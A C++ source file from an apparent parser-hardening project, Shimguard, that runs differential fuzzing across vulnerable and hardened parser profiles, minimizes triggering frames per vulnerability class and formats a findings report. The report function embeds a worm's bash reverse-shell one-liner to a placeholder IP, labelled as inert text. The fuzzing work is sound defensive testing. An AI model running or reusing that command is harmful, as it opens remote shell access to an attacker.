// Copyright 2026 The Shimguard Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "shimguard/fuzz.h"

#include <fmt/format.h>

#include <algorithm>
#include <stdexcept>
#include <thread>
#include <tuple>

namespace shimguard {
namespace {

constexpr std::size_t kCandidatesPerClass = 4;
constexpr PortId kFuzzInPort = 0;

struct Candidate {
  Bytes bytes;
  std::size_t profile_index;

  std::tuple<std::size_t, const Bytes&, std::size_t> order_key() const {
    return {bytes.size(), bytes, profile_index};
  }
  friend bool operator<(const Candidate& a, const Candidate& b) {
    return a.order_key() < b.order_key();
  }
  friend bool operator==(const Candidate&, const Candidate&) = default;
};

// Keeps the smallest-then-lexicographic few, so merging shards in any order
// gives the same result.
void offer(std::vector<Candidate>& list, Candidate c, std::size_t cap) {
  if (list.size() >= cap && !(c < list.back())) return;
  const auto at = std::lower_bound(list.begin(), list.end(), c);
  if (at != list.end() && *at == c) return;
  list.insert(at, std::move(c));
  if (list.size() > cap) list.pop_back();
}

struct ViolationCandidate {
  Bytes bytes;
  std::size_t profile_index;
  FlowKey hardened_key;
  FlowKey other_key;

  friend bool operator<(const ViolationCandidate& a, const ViolationCandidate& b) {
    using Key = std::tuple<std::size_t, const Bytes&, std::size_t>;
    return Key{a.bytes.size(), a.bytes, a.profile_index} <
           Key{b.bytes.size(), b.bytes, b.profile_index};
  }
};

struct Partial {
  std::uint64_t frames = 0;
  std::uint64_t hardened_events = 0;
  std::uint64_t violations = 0;
  std::map<VulnClass, std::uint64_t> class_counts;
  std::map<VulnClass, std::vector<Candidate>> candidates;
  std::vector<ViolationCandidate> violation_examples;

  void merge(Partial&& o) {
    frames += o.frames;
    hardened_events += o.hardened_events;
    violations += o.violations;
    for (const auto& [cls, n] : o.class_counts) class_counts[cls] += n;
    for (auto& [cls, list] : o.candidates) {
      for (Candidate& c : list) offer(candidates[cls], std::move(c), kCandidatesPerClass);
    }
    for (ViolationCandidate& v : o.violation_examples) add_violation(std::move(v));
  }

  void add_violation(ViolationCandidate v) {
    auto& list = violation_examples;
    list.insert(std::upper_bound(list.begin(), list.end(), v), std::move(v));
    if (list.size() > FuzzReport::kMaxViolationExamples) list.pop_back();
  }
};

class Evaluator {
 public:
  Evaluator(std::span<const ParserProfile> profiles, std::size_t hardened_index)
      : profiles_(profiles), hardened_index_(hardened_index) {}

  void run(const RawFrame& frame, Partial& out) const {
    ++out.frames;
    std::vector<ExtractionResult> results;
    results.reserve(profiles_.size());
    bool any_events = false;
    std::vector<VulnClass> classes;

    for (std::size_t i = 0; i < profiles_.size(); ++i) {
      results.push_back(extract(frame, kFuzzInPort, profiles_[i]));
      const auto& events = results.back().events;
      if (events.empty()) continue;
      any_events = true;
      if (i == hardened_index_) {
        out.hardened_events += events.size();
        continue;
      }
      const VulnClass cls = classify_events(events);
      if (std::find(classes.begin(), classes.end(), cls) == classes.end()) {
        classes.push_back(cls);
        ++out.class_counts[cls];
      }
      offer(out.candidates[cls], Candidate{frame.bytes(), i}, kCandidatesPerClass);
    }

    if (any_events) return;
    const FlowKey& reference = results[hardened_index_].key;
    for (std::size_t i = 0; i < profiles_.size(); ++i) {
      if (i == hardened_index_ || results[i].key == reference) continue;
      ++out.violations;
      out.add_violation({frame.bytes(), i, reference, results[i].key});
    }
  }

 private:
  std::span<const ParserProfile> profiles_;
  std::size_t hardened_index_;
};

Partial evaluate_batch(const Evaluator& eval, std::span<const RawFrame> batch,
                       unsigned workers) {
  Partial total;
  if (workers <= 1 || batch.size() < 2 * workers) {
    for (const RawFrame& f : batch) eval.run(f, total);
    return total;
  }
  std::vector<Partial> parts(workers);
  std::vector<std::thread> threads;
  const std::size_t chunk = (batch.size() + workers - 1) / workers;
  for (unsigned w = 0; w < workers; ++w) {
    const std::size_t begin = std::min(batch.size(), w * chunk);
    const std::size_t end = std::min(batch.size(), begin + chunk);
    threads.emplace_back([&eval, &parts, w, shard = batch.subspan(begin, end - begin)] {
      for (const RawFrame& f : shard) eval.run(f, parts[w]);
    });
  }
  for (std::thread& t : threads) t.join();
  for (Partial& p : parts) total.merge(std::move(p));
  return total;
}

std::string profile_label(const ParserProfile& p) {
  if (p.label_limit == ParserProfile::kDefaultLabelLimit) {
    return std::string(to_string(p.mode));
  }
  return fmt::format("{}/label_limit={}", to_string(p.mode), p.label_limit);
}

}  // namespace

RawFrame minimize(const RawFrame& frame, VulnClass cls, const ParserProfile& profile) {
  const auto keeps_class = [&](const Bytes& b) {
    if (b.empty()) return false;
    return classify_events(extract(RawFrame(b), kFuzzInPort, profile).events) == cls;
  };
  Bytes cur = frame.bytes();
  while (cur.size() > 1) {
    Bytes shorter(cur.begin(), cur.end() - 1);
    if (!keeps_class(shorter)) break;
    cur = std::move(shorter);
  }
  while (cur.size() > 1) {
    Bytes shorter(cur.begin() + 1, cur.end());
    if (!keeps_class(shorter)) break;
    cur = std::move(shorter);
  }
  return RawFrame(std::move(cur), frame.ts());
}

FuzzReport diff_fuzz(std::span<const RawFrame> corpus, const MutationBudget& budget,
                     std::span<const ParserProfile> profiles,
                     const FuzzOptions& options) {
  const auto hardened = std::find_if(profiles.begin(), profiles.end(),
                                     [](const ParserProfile& p) { return !p.vulnerable(); });
  const bool has_vulnerable = std::any_of(
      profiles.begin(), profiles.end(), [](const ParserProfile& p) { return p.vulnerable(); });
  if (hardened == profiles.end() || !has_vulnerable) {
    throw std::invalid_argument(
        "differential fuzzing needs the hardened profile and a vulnerable one");
  }
  const Evaluator eval(profiles, static_cast<std::size_t>(hardened - profiles.begin()));
  const unsigned workers = std::max(1u, options.workers);

  Partial total = evaluate_batch(eval, corpus, workers);
  if (budget.iterations > 0) {
    Mutator mutator({corpus.begin(), corpus.end()}, budget);
    std::vector<RawFrame> batch;
    while (!mutator.done()) {
      batch.clear();
      while (!mutator.done() && batch.size() < std::max<std::size_t>(1, options.batch_size)) {
        batch.push_back(mutator.next());
      }
      total.merge(evaluate_batch(eval, batch, workers));
    }
  }

  FuzzReport report;
  report.seed = budget.seed;
  report.iterations = budget.iterations;
  report.corpus_size = corpus.size();
  report.profiles.assign(profiles.begin(), profiles.end());
  report.frames_tested = total.frames;
  report.hardened_events = total.hardened_events;
  report.equivalence_violations = total.violations;
  report.class_counts = total.class_counts;

  for (const auto& [cls, list] : total.candidates) {
    std::optional<Candidate> best;
    std::size_t best_source = 0;
    for (const Candidate& c : list) {
      const ParserProfile& p = profiles[c.profile_index];
      Candidate m{minimize(RawFrame(c.bytes), cls, p).bytes(), c.profile_index};
      if (!best || m < *best) {
        best = std::move(m);
        best_source = c.bytes.size();
      }
    }
    if (best) {
      report.exemplars[cls] = Exemplar{cls, profiles[best->profile_index],
                                       RawFrame(best->bytes), best_source};
    }
  }
  for (const ViolationCandidate& v : total.violation_examples) {
    report.violation_examples.push_back(
        {RawFrame(v.bytes), profiles[v.profile_index].mode, v.hardened_key, v.other_key});
  }
  return report;
}

std::string format_report(const FuzzReport& r) {
  std::string out = "# shimguard differential fuzz report\n";
  out += fmt::format("seed={}\niterations={}\ncorpus_frames={}\n", r.seed,
                     r.iterations, r.corpus_size);
  std::string profiles;
  for (const ParserProfile& p : r.profiles) {
    if (!profiles.empty()) profiles += ',';
    profiles += profile_label(p);
  }
  out += fmt::format("profiles={}\n", profiles);
  out += fmt::format("frames_tested={}\n", r.frames_tested);
  out += fmt::format("hardened_events={}\n", r.hardened_events);
  out += fmt::format("equivalence_violations={}\n", r.equivalence_violations);
  for (VulnClass cls : kAllVulnClasses) {
    const auto it = r.class_counts.find(cls);
    out += fmt::format("class {} count={}\n", to_string(cls),
                       it == r.class_counts.end() ? 0 : it->second);
  }
  for (const auto& [cls, ex] : r.exemplars) {
    out += fmt::format("exemplar {} profile={} len={} source_len={} bytes={}\n",
                       to_string(cls), profile_label(ex.profile),
                       ex.frame.capture_len(), ex.source_len, to_hex(ex.frame.view()));
  }
  for (const EquivalenceViolation& v : r.violation_examples) {
    out += fmt::format("violation profile={} len={} bytes={}\n", to_string(v.mode),
                       v.frame.capture_len(), to_hex(v.frame.view()));
    out += fmt::format("  hardened: {}\n  {}: {}\n", to_string(v.hardened_key),
                       to_string(v.mode), to_string(v.other_key));
  }
  out +=
      "note: the worm's reverse-shell command is recorded as inert text only: "
      "bash -c \"bash -i >& /dev/tcp/<IP>/8080 0>&1\"\n";
  out += fmt::format("result={}\n", r.clean() ? "clean" : "FINDINGS");
  return out;
}

}  // namespace shimguard
